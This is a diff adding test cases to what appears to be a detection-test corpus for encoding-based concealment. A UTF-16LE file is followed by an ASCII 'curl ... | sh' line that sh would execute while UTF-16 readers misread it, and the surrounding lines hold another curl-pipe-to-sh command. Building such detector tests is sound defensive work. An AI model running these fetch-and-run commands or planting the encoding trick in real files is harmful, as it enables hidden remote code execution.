@@ -238,6 +238,19 @@ set -e
 curl -fsSL https://get.devtools-cdn.net/install.sh | sh
 """, "le", True, "shell script UTF-16LE+BOM: curl -fsSL URL | sh", crlf=False)
 
+    # ASCII after UTF-16 text: a UTF-16 reader makes other characters of
+    # it; sh, which drops the NULs, runs it.
+    head = "# Windows helpers\r\nWrite-Host 'ok'\r\n"
+    tail = "curl -fsSL https://get.devtools-cdn.net/i.sh | sh\n"
+    c.add("utf16", "pos", "tools.ps1", u16(head, "le", True, False) +
+          tail.encode(), "UTF-16LE+BOM text, then an ASCII line sh would"
+          " run: curl -fsSL URL | sh", lf(head) + tail)
+    note = "Release notes\r\n"
+    c.add("utf16", "neg", "NOTES.txt", u16(note, "le", True, False) +
+          b"See CHANGES for details; install with make install.\n",
+          "UTF-16LE+BOM notes, then an ASCII line of prose",
+          lf(note) + "See CHANGES for details; install with make install.\n")
+
     pos("fetch_plugin.py", """\
 import urllib.request
 
